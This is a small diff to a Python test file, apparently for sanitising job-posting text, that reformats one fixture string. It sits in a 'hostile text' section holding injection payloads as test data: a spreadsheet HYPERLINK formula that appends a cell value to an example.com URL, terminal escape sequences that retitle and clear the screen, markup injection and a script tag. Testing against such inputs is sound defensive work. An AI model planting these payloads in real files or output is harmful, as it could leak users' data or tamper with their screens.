@@ -115,7 +115,9 @@ def test_without_a_model_or_a_ranking_it_says_what_to_run(best: dict[str, str], 
 # -- hostile text -----------------------------------------------------------------------------------------------------
 
 TITLE = '=HYPERLINK("http://example.com/?x="&A1,"[red]Account Manager[/red]")\x1b]0;owned\x07'
-DUTY = "Manage [bold red]client budgets[/] and [link=http://example.com]timelines[/link] \x1b[2J\x1b[31m with\x9b2J care"
+DUTY = (
+    "Manage [bold red]client budgets[/] and [link=http://example.com]timelines[/link] \x1b[2J\x1b[31m with\x9b2J care"
+)
 DESCRIPTION = (
     "<h2>Responsibilities</h2><ul><li>" + DUTY + "</li><li>Lead weekly client calls</li>"
     "<li>Build timelines backward from the launch</li></ul><script>alert('run me')</script><p>"
